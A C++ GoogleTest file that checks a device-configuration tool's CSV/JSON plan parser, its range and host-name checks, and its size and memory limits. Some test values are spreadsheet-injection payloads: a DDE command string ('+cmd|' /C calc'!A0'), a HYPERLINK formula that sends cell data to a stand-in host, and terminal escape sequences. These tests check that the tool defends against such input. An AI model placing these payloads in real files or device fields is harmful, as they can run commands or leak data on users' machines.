// Plans without a network: the CSV and JSON readers and their checks, the
// fill that `plan` writes, and the limits of a plan file.

#include "../support/tempfile.h"
#include "csv.h"
#include "plan.h"

#include <gtest/gtest.h>

#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <fstream>
#include <utility>

using namespace veltrona::change;
using veltrona::DeviceRecord;
using veltrona::test::TempFile;

namespace {

using FoundDevice = DeviceRecord;

// The tests here meet no problem that the front end words.
PlanInput parse(std::string_view text) {
    return parsePlan(text, [](const Problem &problem) {
        return "problem " + std::to_string(static_cast<int>(problem.code));
    });
}

template <std::size_t N> void setText(char (&field)[N], const std::string &text) {
    std::memset(field, 0, N);
    std::memcpy(field, text.data(), std::min(text.size(), N));
}

} // namespace

TEST(Plan, HandEditedCsvAndJsonReadTheSame) {
    // Columns in any order, quoted cells, CR LF, a byte-order mark, blank = keep.
    const PlanInput csv = parse("\xEF\xBB\xBFnew_host,host,mac,new_mode,new_ip,new_guest\r\n"
                                "\"cam, 1\",old,02-00-00-00-00-01,static,10.0.0.7,\r\n"
                                ",,02:00:00:00:00:02,,,yes\r\n,,,,,\r\n");
    const std::string jsonText = R"([{"mac": "02-00-00-00-00-01", "new_host": "cam, 1",
        "new_mode": "static", "new_ip": "10.0.0.7"}, {"mac": "02-00-00-00-00-02", "new_guest": "yes"}])";
    const PlanInput json = parse(jsonText);
    const PlanInput jsonWithMark = parse("\xEF\xBB\xBF\n" + jsonText);
    for (const PlanInput *plan : {&csv, &json, &jsonWithMark}) {
        ASSERT_TRUE(plan->problems.empty()) << plan->problems.front();
        ASSERT_EQ(plan->rows.size(), 2u);
        const PlanChanges &first = plan->rows[0].changes;
        EXPECT_EQ(first.hostName, "cam, 1");
        EXPECT_EQ(first.network.mode, KOVA_MODE_STATIC);
        EXPECT_EQ(first.network.ipAddress, "10.0.0.7");
        EXPECT_FALSE(first.guest || first.domainName || first.network.netMask);
        const PlanChanges &second = plan->rows[1].changes;
        EXPECT_EQ(second.guest, true);
        EXPECT_FALSE(second.network.any() || second.hostName);
    }
    EXPECT_EQ(csv.rows[1].row, 3);

    // A cell that is not UTF-8 is Latin-1: a plan saved by a Latin-1 program.
    for (const char *cafe : {"caf\xe9", "caf\xc3\xa9", "\"caf\xe9\"",
                             "\xef\xbb\xbf"
                             "caf\xc3\xa9"}) {
        const PlanInput latin1 =
            parse(std::string("mac,new_host\n02-00-00-00-00-01,") + cafe + "\n");
        ASSERT_TRUE(latin1.problems.empty()) << latin1.problems.front();
        EXPECT_EQ(latin1.rows[0].changes.hostName, "caf\xe9") << cafe;
    }
}

TEST(Plan, RangesAndHostNamePatterns) {
    PlanFill fill;
    fill.netMask = "255.255.255.0";
    fill.gateway = "192.168.5.1";
    const auto range = [&](const std::string &text) {
        const auto parsed = parseRange(text);
        fill.rangeFirst = parsed ? std::optional(parsed->first) : std::nullopt;
        fill.rangeLast = parsed ? std::optional(parsed->second) : std::nullopt;
        return parsed.has_value();
    };
    EXPECT_FALSE(range("192.168.5.20-192.168.5.10"));
    ASSERT_TRUE(range("192.168.5.10-192.168.5.49"));
    EXPECT_EQ(checkFill(fill, 40), "");
    EXPECT_NE(checkFill(fill, 41).find("40 addresses for 41 devices"), std::string::npos);
    ASSERT_TRUE(range("192.168.5.200-192.168.6.10"));
    EXPECT_NE(checkFill(fill, 2).find("not in the same subnet"), std::string::npos);
    ASSERT_TRUE(range("192.168.5.250-192.168.5.255"));
    EXPECT_NE(checkFill(fill, 2).find("broadcast address 192.168.5.255"), std::string::npos);
    ASSERT_TRUE(range("192.168.5.1-192.168.5.9"));
    EXPECT_NE(checkFill(fill, 2).find("would be given to a device"), std::string::npos);

    FoundDevice device;
    const std::uint8_t mac[6] = {2, 0, 0, 0xAB, 0x0C, 0xD1};
    std::memcpy(device.info.mac, mac, 6);
    device.firmware.emplace();
    setText(device.firmware->serialNumber, "SN1234567890ABCD"); // fills the field
    std::string error;
    EXPECT_EQ(expandHostPattern("cam-{n:03}-{mac}", 7, device, error), "cam-007-ab0cd1");
    EXPECT_EQ(expandHostPattern("{{{serial}}}-{n}", 1234, device, error),
              "{SN1234567890ABCD}-1234");
    for (const char *bad : {"cam-{x}", "cam-{n", "cam-}"}) {
        error.clear();
        EXPECT_FALSE(expandHostPattern(bad, 1, device, error)) << bad;
        EXPECT_NE(error.find("--hostname-pattern"), std::string::npos);
    }
}

struct RefusedPlan {
    const char *name;
    std::string text;
    std::string problem; // the start of the first problem
};

class PlanRefused : public testing::TestWithParam<RefusedPlan> {};

TEST_P(PlanRefused, OneProblemNamingItsRow) {
    const PlanInput plan = parse(GetParam().text);
    ASSERT_FALSE(plan.problems.empty());
    EXPECT_EQ(plan.problems.front().substr(0, GetParam().problem.size()), GetParam().problem)
        << plan.problems.front();
}

const std::string kTwoRows = "02-00-00-00-00-01,\"cam\n02-00-00-00-00-02,x\n";

INSTANTIATE_TEST_SUITE_P(
    Rows, PlanRefused,
    testing::Values(
        RefusedPlan{"unterminated_quote", "mac,new_host\n" + kTwoRows,
                    "row 2: a quote opens a cell and is never closed"},
        RefusedPlan{"json_list", R"([{"mac": "02-00-00-00-00-01", "new_ip": ["10.0.0.1"]}])",
                    "entry 1: new_ip: a text is needed (in quotes), not a list"},
        RefusedPlan{"json_object", R"([{"mac": "02-00-00-00-00-01", "new_host": {}}])",
                    "entry 1: new_host: a text is needed (in quotes), not an object"},
        RefusedPlan{"json_null", R"([{"mac": "02-00-00-00-00-01", "new_guest": null}])",
                    "entry 1: new_guest: a text is needed (in quotes), not null"},
        RefusedPlan{"json_number_mac", R"([{"mac": 2}])", "entry 1: mac: a text is needed"},
        RefusedPlan{"json_entry_not_object", R"([{"mac": "02-00-00-00-00-01"}, "x"])",
                    "entry 2: not an object"},
        RefusedPlan{"json_field_twice",
                    R"([{"mac": "02-00-00-00-00-01", "new_ip": "10.0.0.1"}, [1, {"mac": 2}],
                        {"mac": "02-00-00-00-00-02", "mac": "02-00-00-00-00-03"}])",
                    "entry 3: field 'mac' is given twice"},
        RefusedPlan{"json_field_twice_escaped",
                    R"([{"mac": "02-00-00-00-00-01", "m\u0061c": "02-00-00-00-00-02"}])",
                    "entry 1: field 'mac' is given twice"},
        RefusedPlan{"json_top_level_object", R"( {"mac": "02-00-00-00-00-01"})",
                    "the plan is JSON, but not a list"},
        RefusedPlan{"json_fields_in_name_order",
                    R"([{"new_ip": "10.0.0.300", "mac": "02-00-00-00-00-0g"}])",
                    "entry 1: mac: '02-00-00-00-00-0g' is not a MAC address"},
        RefusedPlan{"json_huge_number", R"([{"mac": "02-00-00-00-00-01", "new_mtu": 1e999}])",
                    "entry 1: new_mtu: a text is needed (in quotes), not a number"},
        RefusedPlan{"json_not_latin1", R"([{"mac": "02-00-00-00-00-01", "new_host": "\u0101"}])",
                    "entry 1: new_host: the host name holds '\xc4\x81' (U+0101)"},
        RefusedPlan{"json_not_utf8",
                    "[{\"mac\": \"02-00-00-00-00-01\", \"new_host\": \"caf\xe9\"}]",
                    "the plan is not valid JSON: invalid UTF8 string at byte 47"},
        RefusedPlan{"json_lone_surrogate",
                    R"([{"mac": "02-00-00-00-00-01", "new_host": "\ud800"}])",
                    "the plan is not valid JSON: invalid escape sequence"},
        RefusedPlan{"json_broken_behind_a_mark", "\xEF\xBB\xBF[{\"mac\": }]",
                    "the plan is not valid JSON: "},
        RefusedPlan{"not_latin1_named", "mac,new_host\n02-00-00-00-00-01,cam-\xc4\x81\n",
                    "row 2: new_host: the host name holds '\xc4\x81' (U+0101), which devices "
                    "cannot take"},
        RefusedPlan{"escape_in_host", "mac,new_host\n02-00-00-00-00-01,\"a\x1b[31m\"\n",
                    "row 2: new_host: the host name holds a control character"},
        RefusedPlan{"c1_in_domain",
                    "mac,new_domain\n02-00-00-00-00-01,a\xc2\x9b"
                    "2J\n",
                    "row 2: new_domain: the domain name holds a control character"},
        RefusedPlan{"formula_host", "mac,new_host\n02-00-00-00-00-01,@SUM(1+1)\n",
                    "row 2: new_host: the host name starts with '@', which spreadsheets"},
        RefusedPlan{"formula_host_behind_apostrophe", "mac,new_host\n02-00-00-00-00-01,'=1+1\n",
                    "row 2: new_host: the host name starts with '='"},
        RefusedPlan{"line_of_commas", "mac\n" + std::string(1 << 20, ','),
                    "row 2: more than 64 cells"}),
    [](const testing::TestParamInfo<RefusedPlan> &info) { return std::string(info.param.name); });

// Device texts written for spreadsheets read back as they were.
TEST(Plan, HostileDeviceTextsRoundTripThroughASpreadsheetPlan) {
    FoundDevice device;
    device.info.mac[5] = 1;
    setText(device.info.hostName, "=HYPERLINK(\"http://e/\"&A1,\"x\")");
    setText(device.info.domainName, "+cmd|' /C calc'!A0");
    setText(device.info.modelName, "\033]0;TITLE\a\x9b");
    device.firmware.emplace();
    setText(device.firmware->serialNumber, "@SUM(1+1)");
    std::string error;
    const std::string csv = formatPlan({device}, {}, false, error);
    ASSERT_EQ(error, "");
    EXPECT_NE(csv.find(",'@SUM(1+1),"), std::string::npos) << csv;
    EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://e/\"\"&A1,\"\"x\"\")\",'+cmd|"),
              std::string::npos)
        << csv;
    std::vector<std::string> cells;
    veltrona::readCsv(csv, [&](const veltrona::CsvRecord &record) {
        cells = record.cells;
        return true;
    });
    ASSERT_EQ(cells.size(), planCurrentColumns().size() + planNewColumns().size());
    for (std::size_t i = 0; i < planCurrentColumns().size(); ++i) {
        EXPECT_EQ(veltrona::fromSpreadsheetText(cells[i]),
                  currentValue(device, planCurrentColumns()[i]));
        EXPECT_FALSE(!cells[i].empty() && veltrona::isFormulaStart(cells[i].front())) << cells[i];
    }
    EXPECT_TRUE(parse(csv).problems.empty());

    // A device's UTF-8 text is written as it is, once; other bytes as Latin-1.
    setText(device.info.hostName, "caf\xc3\xa9");
    setText(device.info.domainName, "caf\xe9");
    EXPECT_EQ(currentValue(device, "host"), "caf\xc3\xa9");
    EXPECT_EQ(currentValue(device, "domain"), "caf\xc3\xa9");

    PlanFill fill;
    fill.hostPattern = "{serial}";
    EXPECT_TRUE(formatPlan({device}, fill, false, error).empty());
    EXPECT_NE(error.find("would be '@SUM(1+1)': starts with '@'"), std::string::npos) << error;
}

// Peak memory of parsing `text` in a child process, in bytes above what the
// child held before (the peak is reset first); whether the plan was refused.
long parsingPeak(const std::string &text, bool &refused) {
    int channel[2];
    if (pipe(channel) != 0)
        return -1;
    const pid_t child = fork();
    if (child == 0) {
        const auto kib = [](const char *field) {
            std::ifstream status("/proc/self/status");
            std::string line;
            while (std::getline(status, line))
                if (line.rfind(field, 0) == 0)
                    return std::stol(line.substr(std::strlen(field)));
            return -1L;
        };
        std::ofstream("/proc/self/clear_refs") << "5"; // the peak starts from here
        const long before = kib("VmRSS:");
        const PlanInput plan = parse(text);
        const long growth = (kib("VmHWM:") - before) * 1024;
        const bool refused = !plan.problems.empty();
        const long answer[2] = {growth, refused ? 1L : 0L};
        _exit(write(channel[1], answer, sizeof answer) == sizeof answer ? 0 : 1);
    }
    close(channel[1]);
    long answer[2] = {-1, -1};
    const bool got = read(channel[0], answer, sizeof answer) == sizeof answer;
    close(channel[0]);
    waitpid(child, nullptr, 0);
    refused = answer[1] != 0;
    return got ? answer[0] : -1;
}

TEST(Plan, LargePlansStayWithinASmallMultipleOfTheirSize) {
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
    GTEST_SKIP() << "a sanitizer's own memory would be measured with the plan's";
#endif
    // Rows as `plan` writes them, in CSV and in JSON, up to the size limit.
    const std::vector<std::pair<std::string, std::string>> fields = {{"mac", ""},
                                                                     {"model", "KV-1"},
                                                                     {"serial", "SN1"},
                                                                     {"address", "10.0.0.1"},
                                                                     {"mode", "dhcp"},
                                                                     {"ip", "10.0.0.1"},
                                                                     {"netmask", "255.0.0.0"},
                                                                     {"gateway", "10.0.0.254"},
                                                                     {"dns", "10.0.0.53"},
                                                                     {"host", "cam"},
                                                                     {"domain", "example.net"},
                                                                     {"guest", "no"},
                                                                     {"new_mode", ""},
                                                                     {"new_ip", ""},
                                                                     {"new_netmask", ""},
                                                                     {"new_gateway", ""},
                                                                     {"new_dns", ""},
                                                                     {"new_host", "cam-new"},
                                                                     {"new_domain", ""},
                                                                     {"new_guest", ""}};
    std::string csv, json = "[";
    for (const auto &[name, value] : fields)
        csv += name + (name == "new_guest" ? "\n" : ",");
    for (int n = 0; csv.size() < kMaxPlanBytes - 1000 || json.size() < kMaxPlanBytes - 1000; ++n) {
        char mac[18];
        std::snprintf(mac, sizeof mac, "02-00-00-%02X-%02X-%02X", n >> 16 & 255, n >> 8 & 255,
                      n & 255);
        std::string line, entry = n ? ",\n  {" : "\n  {";
        for (const auto &[name, value] : fields) {
            const std::string cell = name == "mac" ? std::string(mac) : value;
            line += cell + (name == "new_guest" ? "\n" : ",");
            entry +=
                "\n    \"" + name + "\": \"" + cell + "\"" + (name == "new_guest" ? "\n  }" : ",");
        }
        if (csv.size() + line.size() <= kMaxPlanBytes)
            csv += line;
        if (json.size() + entry.size() < kMaxPlanBytes)
            json += entry;
    }
    json += "]";
    const std::string commas = "mac\n" + std::string(kMaxPlanBytes - 4, ',');
    for (const std::string *text : {&std::as_const(csv), &std::as_const(json), &commas}) {
        bool refused = false;
        const long peak = parsingPeak(*text, refused);
        ASSERT_GE(peak, 0);
        EXPECT_EQ(refused, text == &commas);
        EXPECT_LT(peak, static_cast<long>(6 * text->size()))
            << text->size() << " bytes took " << peak;
        std::printf("%lld bytes parsed with a peak of %ld bytes more\n",
                    static_cast<long long>(text->size()), peak);
    }
}

TEST(Plan, FilesLargerThanTheLimitAreNotRead) {
    TempFile file("");
    std::string error;
    ASSERT_EQ(truncate(file.path().c_str(), kMaxPlanBytes), 0);
    EXPECT_TRUE(readPlanFile(file.path(), error)) << error;
    ASSERT_EQ(truncate(file.path().c_str(), kMaxPlanBytes + 1), 0);
    EXPECT_FALSE(readPlanFile(file.path(), error));
    EXPECT_EQ(error, "the plan is larger than 16 MiB");
}
